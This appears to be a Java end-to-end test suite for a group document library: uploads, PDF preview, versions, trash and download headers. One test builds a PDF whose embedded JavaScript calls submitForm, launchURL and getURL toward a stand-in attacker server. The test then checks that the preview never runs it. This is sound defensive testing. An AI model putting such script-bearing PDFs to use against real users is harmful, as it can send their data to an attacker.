package de.zusammenwachsen.workspace.e2e;

import com.icegreen.greenmail.junit5.GreenMailExtension;
import com.sun.net.httpserver.HttpServer;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.spec.EnterpriseArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.openqa.selenium.By;
import org.openqa.selenium.Cookie;
import org.openqa.selenium.Dimension;
import org.openqa.selenium.Keys;
import org.openqa.selenium.NoAlertPresentException;
import org.openqa.selenium.TimeoutException;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;

import static de.zusammenwachsen.workspace.e2e.Flows.BASE;
import static de.zusammenwachsen.workspace.e2e.Flows.assertAccessible;
import static de.zusammenwachsen.workspace.e2e.Flows.clickAndWaitForNextPage;
import static de.zusammenwachsen.workspace.e2e.Flows.type;
import static de.zusammenwachsen.workspace.e2e.Flows.waitFor;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * A group's documents in the browser, as a member works with them: several files uploaded at once with a progress
 * bar each, listed, a PDF previewed in the page, a new version uploaded and the old one restored, the document
 * trashed and restored by a moderator from the trash, the download checked byte for byte with its headers; a
 * concurrent edit of the metadata ends in a clear conflict. Every page visited passes axe-core, also at phone width.
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class DocumentsIT {

    @RegisterExtension
    static final GreenMailExtension MAIL = Fixtures.mailServer();

    private static final Path CORPUS = Corpus.binary();
    // HTTP/1.1 as browsers speak it without TLS: Java's client otherwise upgrades to HTTP/2 in clear text (h2c), which
    // browsers never do, and a large download then broke off with a frame error in that upgrade.
    private static final HttpClient HTTP = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10)).build();

    @Deployment(testable = false)
    static EnterpriseArchive deployment() {
        return Deployments.workspace();
    }

    @Test
    void memberUploadsPreviewsVersionsTrashesAndDownloads() throws Exception {
        Fixtures.Account moderator = Fixtures.createAccount(MAIL, "Mona Moderatorin");
        Fixtures.Account member = Fixtures.createAccount(MAIL, "Max Mitglied");
        String slug = Fixtures.createGroup("PUBLIC", "OPEN", moderator.email()).getString("slug");
        assertEquals(201, member.api().post("/groups/" + slug + "/members").status());
        makePrivate(slug);

        Path pdf = CORPUS.resolve("bafoeg.pdf");
        Path odt = CORPUS.resolve("aeg.odt");
        Path newerPdf = CORPUS.resolve("vereinsg.pdf");
        Path dir = Files.createDirectories(Path.of("target", "documents-it"));
        String noteName = "notiz-" + System.nanoTime() + ".txt";
        Path note = Files.writeString(dir.resolve(noteName),
                "Protokoll der Sitzung\nWir treffen uns jeden zweiten Dienstag im Bürgerhaus Hohenmölsen.\n", StandardCharsets.UTF_8);

        try (Browser mem = new Browser(); Browser mod = new Browser()) {
            Browser current = mem;
            try {
                Flows.logIn(mem, member.email(), Fixtures.PASSWORD);
                mem.driver.get(BASE + "/groups/group.xhtml?slug=" + slug);
                waitFor(mem, By.id("documentsLink"));
                clickAndWaitForNextPage(mem, By.id("documentsLink"));
                waitFor(mem, By.id("noDocuments"));
                assertTrue(mem.driver.findElement(By.id("limitsText")).getText().startsWith("max. 100 MB pro Datei, "),
                        "the limits show before uploading: " + mem.driver.findElement(By.id("limitsText")).getText());
                assertAccessible(mem);

                // Three files at once; each gets its own row with a progress bar while it travels.
                WebElement input = mem.driver.findElement(By.cssSelector("#uploadForm input[type='file']"));
                input.sendKeys(String.join("\n", pdf.toAbsolutePath().toString(), odt.toAbsolutePath().toString(),
                        note.toAbsolutePath().toString()));
                mem.screenshot("documents-uploading");
                until(mem, "three uploads reported", () -> mem.driver.findElements(By.cssSelector(".upload-results li")).size() == 3);
                until(mem, "three documents listed", () -> mem.driver.findElements(By.cssSelector(".document-row")).size() == 3);
                assertTrue(mem.driver.findElements(By.cssSelector(".upload-results li.problem")).isEmpty(),
                        mem.driver.findElement(By.id("uploadResults")).getText());
                String listing = mem.driver.findElement(By.id("documents")).getText();
                assertTrue(listing.contains("bafoeg.pdf") && listing.contains("aeg.odt") && listing.contains(noteName), listing);
                assertTrue(listing.contains("v1") && listing.contains("Max Mitglied"), listing);
                fullPage(mem, "documents-library");
                assertAccessible(mem);

                // A file over the limit is refused in the browser, before a byte travels.
                Path tooLarge = dir.resolve("zu-gross-" + System.nanoTime() + ".bin");
                try (java.io.RandomAccessFile sparse = new java.io.RandomAccessFile(tooLarge.toFile(), "rw")) {
                    sparse.setLength(101L * 1024 * 1024);
                }
                mem.driver.findElement(By.cssSelector("#uploadForm input[type='file']")).sendKeys(tooLarge.toAbsolutePath().toString());
                until(mem, "the size limit message", () -> mem.driver.findElement(By.id("uploadForm")).getText().contains("zu groß"));
                mem.screenshot("documents-too-large");
                Files.deleteIfExists(tooLarge);
                assertEquals(3, mem.driver.findElements(By.cssSelector(".document-row")).size());

                // Sorting by size and filtering by type are plain links and GET forms.
                clickAndWaitForNextPage(mem, By.id("sortSize"));
                waitFor(mem, By.cssSelector(".document-row"));
                assertEquals(noteName, lastDocument(mem), "sorted by size, largest first: the small note comes last");
                assertEquals("descending", mem.driver.findElement(By.id("sortSize")).findElement(By.xpath("..")).getAttribute("aria-sort"));
                new org.openqa.selenium.support.ui.Select(mem.driver.findElement(By.id("kindFilter"))).selectByValue("PDF");
                clickAndWaitForNextPage(mem, By.id("applyFilter"));
                until(mem, "only the PDF listed", () -> mem.driver.findElements(By.cssSelector(".document-row")).size() == 1);
                assertAccessible(mem);

                // The text file previews as text.
                mem.driver.get(BASE + "/groups/documents.xhtml?slug=" + slug);
                mem.driver.findElement(By.linkText(noteName)).click();
                waitFor(mem, By.id("previewText"));
                assertTrue(mem.driver.findElement(By.id("previewText")).getText().contains("Bürgerhaus Hohenmölsen"));
                assertAccessible(mem);
                String noteUrl = mem.driver.getCurrentUrl();

                // A comment, and deleting it again after confirming.
                type(mem, "newCommentForm:commentBody", "Bitte bis Freitag lesen.");
                clickAndWaitForNextPage(mem, By.id("newCommentForm:addComment"));
                waitFor(mem, By.cssSelector(".comment"));
                assertTrue(mem.driver.findElement(By.cssSelector(".comment")).getText().contains("Bitte bis Freitag lesen."));
                assertAccessible(mem);
                clickAndConfirmAndWait(mem, mem.driver.findElement(By.cssSelector(".comment button")));
                waitFor(mem, By.id("noComments"));

                // A new folder, and the note moved into it.
                mem.driver.get(BASE + "/groups/documents.xhtml?slug=" + slug);
                type(mem, "newFolderForm:newFolderName", "Protokolle");
                clickAndWaitForNextPage(mem, By.id("newFolderForm:createFolder"));
                waitFor(mem, By.linkText("Protokolle"));
                mem.driver.get(noteUrl);
                new org.openqa.selenium.support.ui.Select(mem.driver.findElement(By.id("moveForm:targetFolder"))).selectByVisibleText("Protokolle");
                clickAndWaitForNextPage(mem, By.id("moveForm:move"));
                waitFor(mem, By.cssSelector(".ui-messages-info"));
                assertTrue(mem.driver.findElement(By.cssSelector(".breadcrumbs")).getText().contains("Protokolle"));
                mem.driver.findElement(By.linkText("Protokolle")).click();
                until(mem, "the note in its folder", () -> mem.driver.findElements(By.linkText(noteName)).size() == 1);
                assertEquals("Protokolle", mem.driver.findElement(By.id("libraryHeading")).getText());
                assertAccessible(mem);

                // The PDF previews in the page, drawn by PDF.js from the file, which itself only ever downloads.
                mem.driver.get(BASE + "/groups/documents.xhtml?slug=" + slug);
                mem.driver.findElement(By.linkText("bafoeg.pdf")).click();
                waitFor(mem, By.id("pdfPreview"));
                String documentUrl = mem.driver.getCurrentUrl();
                pdfPageDrawn(mem, 1);
                String fileUrl = BASE + mem.driver.findElement(By.id("pdfPreview")).getAttribute("data-src");
                assertTrue(fileUrl.startsWith(BASE + "/files/"), fileUrl);
                HttpResponse<byte[]> raw = get(fileUrl, mem, null);
                assertEquals(200, raw.statusCode());
                assertEquals("application/pdf", raw.headers().firstValue("Content-Type").orElse(""));
                assertTrue(raw.headers().firstValue("Content-Disposition").orElse("").startsWith("attachment"));
                assertTrue(raw.headers().firstValue("Content-Security-Policy").orElse("").startsWith("sandbox"));
                assertEquals("DENY", raw.headers().firstValue("X-Frame-Options").orElse(""));
                assertEquals("v1", mem.driver.findElement(By.id("currentVersion")).getText());
                mem.screenshot("documents-pdf-preview");
                assertAccessible(mem);

                // A new version (v2) with a comment.
                mem.driver.findElement(By.id("versionForm:versionFile")).sendKeys(newerPdf.toAbsolutePath().toString());
                type(mem, "versionForm:versionComment", "Neue Fassung vom Vorstand");
                clickAndWaitForNextPage(mem, By.id("versionForm:uploadVersion"));
                waitFor(mem, By.cssSelector(".ui-messages-info"));
                assertEquals("v2", mem.driver.findElement(By.id("currentVersion")).getText());
                assertTrue(mem.driver.findElement(By.id("versions")).getText().contains("Neue Fassung vom Vorstand"));

                // Restoring v1 makes it the newest version, v3.
                WebElement restore = mem.driver.findElement(By.cssSelector("#version-1 .restore-version"));
                clickAndConfirmAndWait(mem, restore);
                waitFor(mem, By.cssSelector(".ui-messages-info"));
                assertEquals("v3", mem.driver.findElement(By.id("currentVersion")).getText());
                assertTrue(mem.driver.findElement(By.cssSelector(".ui-messages-info")).getText().contains("Version 1"));
                assertEquals(3, mem.driver.findElements(By.cssSelector(".version-row")).size());
                String extraction = mem.driver.findElement(By.cssSelector("#version-3 .extraction")).getText();
                assertTrue(extraction.startsWith("Text wird ausgelesen") || extraction.startsWith("Text ausgelesen")
                        || extraction.startsWith("Fehlgeschlagen"), extraction);
                fullPage(mem, "documents-versions");
                assertAccessible(mem);

                // Download of the current version (v3 = v1's bytes) with the browser's session.
                String downloadUrl = mem.driver.findElement(By.id("download")).getAttribute("href");
                HttpResponse<byte[]> download = get(downloadUrl, mem, null);
                assertEquals(200, download.statusCode());
                assertArrayEquals(Files.readAllBytes(pdf), download.body(), "the restored version has the first file's bytes");
                String disposition = download.headers().firstValue("Content-Disposition").orElse("");
                assertTrue(disposition.startsWith("attachment") && disposition.contains("bafoeg.pdf"), disposition);
                assertEquals("nosniff", download.headers().firstValue("X-Content-Type-Options").orElse(""));
                assertEquals(String.valueOf(Files.size(pdf)), download.headers().firstValue("Content-Length").orElse(""));
                assertTrue(download.headers().firstValue("Cache-Control").orElse("").contains("private"));
                String etag = download.headers().firstValue("ETag").orElse(null);
                assertNotNull(etag);
                assertEquals(304, get(downloadUrl, mem, etag).statusCode(), "unchanged content answers 304");
                assertEquals(404, get(downloadUrl, null, null).statusCode(), "guests get 404 for a private group's files");

                // A concurrent edit of the metadata: the moderator's stale form gets a clear conflict.
                current = mod;
                Flows.logIn(mod, moderator.email(), Fixtures.PASSWORD);
                mod.driver.get(documentUrl);
                waitFor(mod, By.id("metadataForm:title"));
                current = mem;
                mem.driver.get(documentUrl);
                waitFor(mem, By.id("metadataForm:title"));
                type(mem, "metadataForm:title", "BAföG – Stand 2024");
                type(mem, "metadataForm:tags", "Förderung, Antrag");
                clickAndWaitForNextPage(mem, By.id("metadataForm:save"));
                waitFor(mem, By.cssSelector(".ui-messages-info"));
                assertEquals("BAföG – Stand 2024", mem.driver.findElement(By.id("documentTitle")).getText());
                current = mod;
                type(mod, "metadataForm:title", "Titel der Moderatorin");
                clickAndWaitForNextPage(mod, By.id("metadataForm:save"));
                waitFor(mod, By.cssSelector(".ui-messages-error"));
                assertTrue(mod.driver.findElement(By.cssSelector(".ui-messages-error")).getText().contains("inzwischen geändert"));
                assertEquals("Titel der Moderatorin", mod.driver.findElement(By.id("metadataForm:title")).getAttribute("value"),
                        "the typed input is kept");
                assertAccessible(mod);

                // The member trashes the document; it leaves the library.
                current = mem;
                mem.driver.get(documentUrl);
                waitFor(mem, By.id("trashForm:trash"));
                clickAndConfirmAndWait(mem, mem.driver.findElement(By.id("trashForm:trash")));
                waitFor(mem, By.id("libraryHeading"));
                assertTrue(mem.driver.findElement(By.cssSelector(".ui-messages-info")).getText().contains("Papierkorb"));
                until(mem, "only aeg.odt left at the top", () -> mem.driver.findElements(By.cssSelector(".document-row")).size() == 1);
                assertTrue(mem.driver.findElements(By.id("trashLink")).isEmpty(), "members do not manage the trash");
                mem.driver.get(documentUrl);
                waitFor(mem, By.tagName("h1"));
                assertTrue(mem.driver.getPageSource().contains("gibt es nicht"), "a trashed document is gone for members");

                // The moderator restores it from the trash.
                current = mod;
                mod.driver.get(BASE + "/groups/documents.xhtml?slug=" + slug);
                waitFor(mod, By.id("trashLink"));
                clickAndWaitForNextPage(mod, By.id("trashLink"));
                waitFor(mod, By.cssSelector(".trash-row"));
                fullPage(mod, "documents-trash");
                assertAccessible(mod);
                WebElement row = mod.driver.findElements(By.cssSelector(".trash-row")).stream()
                        .filter(r -> r.getText().contains("bafoeg.pdf")).findFirst().orElseThrow();
                clickElementAndWait(mod, row.findElement(By.cssSelector(".restore")));
                waitFor(mod, By.cssSelector(".ui-messages-info"));
                assertTrue(mod.driver.findElements(By.cssSelector(".trash-row")).stream().noneMatch(r -> r.getText().contains("bafoeg.pdf")));

                // The moderator imports a ZIP archive and watches it finish.
                mod.driver.get(BASE + "/groups/documents.xhtml?slug=" + slug);
                clickAndWaitForNextPage(mod, By.id("importLink"));
                waitFor(mod, By.id("noImports"));
                assertAccessible(mod);
                Path zip = dir.resolve("umzug-" + System.nanoTime() + ".zip");
                try (java.util.zip.ZipOutputStream out = new java.util.zip.ZipOutputStream(Files.newOutputStream(zip))) {
                    out.putNextEntry(new java.util.zip.ZipEntry("Umzug/Einladung.txt"));
                    out.write("Einladung zum Sommerfest am Geiseltalsee.".getBytes(StandardCharsets.UTF_8));
                    out.closeEntry();
                    out.putNextEntry(new java.util.zip.ZipEntry("Umzug/aeg.odt"));
                    out.write(Files.readAllBytes(odt));
                    out.closeEntry();
                }
                mod.driver.findElement(By.cssSelector("#importForm input[type='file']")).sendKeys(zip.toAbsolutePath().toString());
                until(mod, "the import listed", () -> !mod.driver.findElements(By.cssSelector(".import")).isEmpty());
                until(mod, "the import done", () -> !mod.driver.findElements(By.cssSelector(".import-DONE")).isEmpty());
                fullPage(mod, "documents-import");
                assertAccessible(mod);

                current = mem;
                mem.driver.get(documentUrl);
                pdfPageDrawn(mem, 1);
                assertEquals("v3", mem.driver.findElement(By.id("currentVersion")).getText());
                assertEquals(200, get(downloadUrl, mem, null).statusCode(), "restored, the download works again");

                // Phone width: nothing wider than the screen.
                mem.driver.manage().window().setSize(new Dimension(390, 844));
                for (String page : List.of(documentUrl, BASE + "/groups/documents.xhtml?slug=" + slug)) {
                    mem.driver.get(page);
                    waitFor(mem, By.tagName("h1"));
                    Object overflow = mem.driver.executeScript("return document.documentElement.scrollWidth - window.innerWidth;");
                    assertTrue(((Number) overflow).intValue() <= 0, "no horizontal scrolling at 390 px on " + page + ": " + overflow);
                    assertAccessible(mem);
                }
                mem.screenshot("documents-phone");
            } catch (AssertionError | RuntimeException e) {
                current.screenshot("documents-failure");
                throw e;
            }
        }
    }

    /**
     * Finding 7 of the security probe, as an attacker does it: a member uploads through the REST API a PDF whose
     * OpenAction runs JavaScript (a dialog, a form sent and pages opened to a server of the attacker's), and a
     * moderator opens the document. Chromium's own viewer ran such a script for every viewer of the preview, also
     * under a CSP sandbox (its app.alert holds a dialog over the page, so the page never finishes loading). Now PDF.js
     * draws the pages in the page and runs no script; the file itself only ever goes out as an attachment.
     */
    @Test
    void aScriptInAnUploadedPdfNeverRunsInThePreview() throws Exception {
        Fixtures.Account moderator = Fixtures.createAccount(MAIL, "Moritz Moderator");
        Fixtures.Account attacker = Fixtures.createAccount(MAIL, "Anton Angreifer");
        String slug = Fixtures.createGroup("PUBLIC", "OPEN", moderator.email()).getString("slug");
        assertEquals(201, attacker.api().post("/groups/" + slug + "/members").status());

        // Whatever the script manages to send lands here.
        List<String> calls = new CopyOnWriteArrayList<>();
        HttpServer sink = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        sink.createContext("/", exchange -> {
            calls.add(exchange.getRequestMethod() + " " + exchange.getRequestURI());
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        sink.start();
        try {
            String to = "http://127.0.0.1:" + sink.getAddress().getPort();
            byte[] pdf = AdversarialFiles.pdfWithScript("app.alert('Skript aus dem PDF'); this.submitForm('" + to + "/submit'); "
                            + "app.launchURL('" + to + "/launch', true); this.getURL('" + to + "/geturl');",
                    "Einladung zum Sommerfest am Geiseltalsee", "Anmeldung bis Freitag im Bürgerhaus");
            ApiClient.Answer uploaded = attacker.api().postMultipart("/groups/" + slug + "/documents",
                    new ApiClient.Multipart().file("file", "Einladung.pdf", pdf));
            assertEquals(201, uploaded.status(), uploaded.body());
            long documentId = uploaded.array().getJsonObject(0).getJsonNumber("documentId").longValue();

            // The REST API never hands the PDF to a browser's viewer either.
            ApiClient.Binary viaApi = attacker.api().download("/documents/" + documentId + "/versions/1/content");
            assertEquals(200, viaApi.status(), viaApi.toString());
            assertEquals("application/pdf", viaApi.header("Content-Type"));
            assertTrue(viaApi.header("Content-Disposition").startsWith("attachment"), viaApi.header("Content-Disposition"));
            assertTrue(viaApi.header("Content-Security-Policy").startsWith("sandbox"), viaApi.header("Content-Security-Policy"));
            assertArrayEquals(pdf, viaApi.bytes());

            try (Browser victim = new Browser()) {
                try {
                    Flows.logIn(victim, moderator.email(), Fixtures.PASSWORD);
                    try {
                        victim.driver.get(BASE + "/groups/document.xhtml?id=" + documentId);
                    } catch (TimeoutException e) {
                        throw new AssertionError("the document page never finished loading: a dialog of the PDF's script "
                                + "holds it, so the browser's own viewer ran the script", e);
                    }
                    pdfPageDrawn(victim, 1);
                    assertTrue(pdfText(victim).contains("Einladung zum Sommerfest"), pdfText(victim));
                    assertEquals("Seite 1 von 2", victim.driver.findElement(By.id("pdfStatus")).getDomProperty("textContent"));
                    Object framed = victim.driver.executeScript("return Array.from(document.querySelectorAll('iframe, embed, object'))"
                            + ".map(function (e) { return e.src || e.data || ''; }).filter(function (s) { return s.indexOf('/files/') >= 0; }).length;");
                    assertEquals(0L, ((Number) framed).longValue(), "the PDF is never framed for the browser's own viewer");
                    assertThrows(NoAlertPresentException.class, () -> victim.driver.switchTo().alert(), "the PDF's app.alert ran");
                    assertAccessible(victim);
                    victim.screenshot("documents-pdf-with-script");

                    // Turning pages with the keyboard: Enter on "Nächste Seite", then a page number typed in.
                    assertEquals("true", victim.driver.findElement(By.id("pdfPrevious")).getAttribute("aria-disabled"));
                    victim.driver.findElement(By.id("pdfNext")).sendKeys(Keys.ENTER);
                    pdfPageDrawn(victim, 2);
                    assertTrue(pdfText(victim).contains("Anmeldung bis Freitag"), pdfText(victim));
                    assertEquals("true", victim.driver.findElement(By.id("pdfNext")).getAttribute("aria-disabled"));
                    WebElement number = victim.driver.findElement(By.id("pdfPageNumber"));
                    number.sendKeys(Keys.chord(Keys.CONTROL, "a"), "1", Keys.ENTER);
                    pdfPageDrawn(victim, 1);
                    assertThrows(NoAlertPresentException.class, () -> victim.driver.switchTo().alert(), "the PDF's app.alert ran");
                    assertAccessible(victim);

                    // The file's own address answers as a download, never as a document for the browser's viewer.
                    String fileUrl = BASE + victim.driver.findElement(By.id("pdfPreview")).getAttribute("data-src");
                    HttpResponse<byte[]> raw = get(fileUrl, victim, null);
                    assertEquals(200, raw.statusCode());
                    assertEquals("application/pdf", raw.headers().firstValue("Content-Type").orElse(""));
                    String disposition = raw.headers().firstValue("Content-Disposition").orElse("");
                    assertTrue(disposition.startsWith("attachment") && disposition.contains("Einladung.pdf"), disposition);
                    assertTrue(raw.headers().firstValue("Content-Security-Policy").orElse("").startsWith("sandbox"));
                    assertEquals("DENY", raw.headers().firstValue("X-Frame-Options").orElse(""));
                    assertEquals("nosniff", raw.headers().firstValue("X-Content-Type-Options").orElse(""));
                    assertArrayEquals(pdf, raw.body());

                    // PDF.js comes from our own origin as JavaScript (nosniff refuses anything else); its worker may
                    // compile WebAssembly and nothing more: no eval, no fetch, no import.
                    HttpResponse<byte[]> library = get(BASE + "/pdfjs/build/pdf.mjs", null, null);
                    assertEquals(200, library.statusCode());
                    assertTrue(library.headers().firstValue("Content-Type").orElse("").startsWith("text/javascript"));
                    HttpResponse<byte[]> worker = get(BASE + "/pdfjs/build/pdf.worker.mjs", null, null);
                    assertEquals(200, worker.statusCode());
                    assertTrue(worker.headers().firstValue("Content-Type").orElse("").startsWith("text/javascript"));
                    assertEquals("default-src 'none'; script-src 'wasm-unsafe-eval'; frame-ancestors 'none'; base-uri 'none'; "
                            + "form-action 'none'", worker.headers().firstValue("Content-Security-Policy").orElse(""));
                    assertEquals(404, get(BASE + "/pdfjs/build/pdf.sandbox.mjs", null, null).statusCode(),
                            "PDF.js's scripting bundle, which would run a PDF's JavaScript, is not shipped");
                } catch (AssertionError | RuntimeException e) {
                    victim.screenshot("documents-pdf-with-script-failure");
                    throw e;
                }
            }
            assertEquals(List.of(), calls, "what the PDF's script sent out");
        } finally {
            sink.stop(0);
        }
    }

    /** Waits until PDF.js has drawn page {@code number} with its text layer, and checks the picture has a size. */
    private static void pdfPageDrawn(Browser browser, int number) {
        until(browser, "page " + number + " of the PDF drawn", () -> {
            WebElement preview = browser.driver.findElement(By.id("pdfPreview"));
            if ("failed".equals(preview.getAttribute("data-state"))) {
                throw new AssertionError("the preview failed: " + browser.driver.findElement(By.id("pdfFailure")).getText());
            }
            return "rendered".equals(preview.getAttribute("data-state"))
                    && String.valueOf(number).equals(preview.getAttribute("data-page"));
        });
        WebElement canvas = browser.driver.findElement(By.id("pdfCanvas"));
        assertTrue(Integer.parseInt(canvas.getAttribute("width")) > 0 && Integer.parseInt(canvas.getAttribute("height")) > 0,
                "the page is drawn on the canvas");
        assertTrue(browser.driver.findElement(By.id("pdfPage")).isDisplayed());
    }

    /** The text layer PDF.js puts over the page (transparent, so read from the DOM, not as visible text). */
    private static String pdfText(Browser browser) {
        return browser.driver.findElement(By.id("pdfText")).getDomProperty("textContent");
    }

    private static String lastDocument(Browser browser) {
        List<WebElement> links = browser.driver.findElements(By.cssSelector(".document-row .document-link"));
        return links.get(links.size() - 1).getText();
    }

    /** Clicks a button guarded by the confirmation dialog, confirms, and waits for the next page. */
    private static void clickAndConfirmAndWait(Browser browser, WebElement button) {
        WebElement page = browser.driver.findElement(By.tagName("html"));
        Flows.loaded(browser);
        button.click();
        // Once in about thirty full runs the dialog did not open after the click (the page complete, no error);
        // a person would click again, and so does the test, once, before it reports the dialog missing.
        WebElement yes;
        try {
            yes = new WebDriverWait(browser.driver, Duration.ofSeconds(5))
                    .until(ExpectedConditions.visibilityOfElementLocated(By.id("confirmYes")));
        } catch (TimeoutException notOpened) {
            System.out.println("[DocumentsIT] the confirmation dialog did not open within 5 s; clicking again");
            button.click();
            yes = Flows.visible(browser, By.id("confirmYes"));
        }
        yes.click();
        Flows.waitForNextPage(browser, page);
    }

    private static void clickElementAndWait(Browser browser, WebElement button) {
        WebElement page = browser.driver.findElement(By.tagName("html"));
        button.click();
        Flows.waitForNextPage(browser, page);
    }

    /** A screenshot of the whole page, not only of the window; the window keeps its size afterwards. */
    private static void fullPage(Browser browser, String name) {
        Dimension before = browser.driver.manage().window().getSize();
        Number height = (Number) browser.driver.executeScript("return document.documentElement.scrollHeight;");
        browser.driver.manage().window().setSize(new Dimension(before.getWidth(), Math.min(6000, height.intValue() + 150)));
        browser.screenshot(name);
        browser.driver.manage().window().setSize(before);
    }

    private static void until(Browser browser, String what, java.util.function.BooleanSupplier condition) {
        new WebDriverWait(browser.driver, Duration.ofSeconds(60)).withMessage(what).until(d -> condition.getAsBoolean());
    }

    /** GET with the browser's session cookie (null: as a guest), optionally conditional. */
    private static HttpResponse<byte[]> get(String url, Browser as, String ifNoneMatch) throws IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(url)).timeout(Duration.ofSeconds(60));
        if (as != null) {
            Cookie session = as.driver.manage().getCookieNamed("JSESSIONID");
            assertNotNull(session, "the browser has a session");
            request.header("Cookie", "JSESSIONID=" + session.getValue());
        }
        if (ifNoneMatch != null) {
            request.header("If-None-Match", ifNoneMatch);
        }
        return HTTP.send(request.build(), HttpResponse.BodyHandlers.ofByteArray());
    }

    /** Members can join only a listed open group; the group becomes private once they are in. */
    private static void makePrivate(String slug) {
        ApiClient admin = Fixtures.admin();
        int version = admin.get("/groups/" + slug).json().getInt("version");
        JsonObject settings = Json.createObjectBuilder().add("version", version).add("name", "Gruppe " + slug)
                .add("actionFields", Json.createArrayBuilder().add(Fixtures.ACTION_FIELD))
                .add("visibility", "PRIVATE").add("joinPolicy", "REQUEST").build();
        ApiClient.Answer answer = admin.put("/groups/" + slug, settings);
        assertEquals(200, answer.status(), answer.body());
    }
}
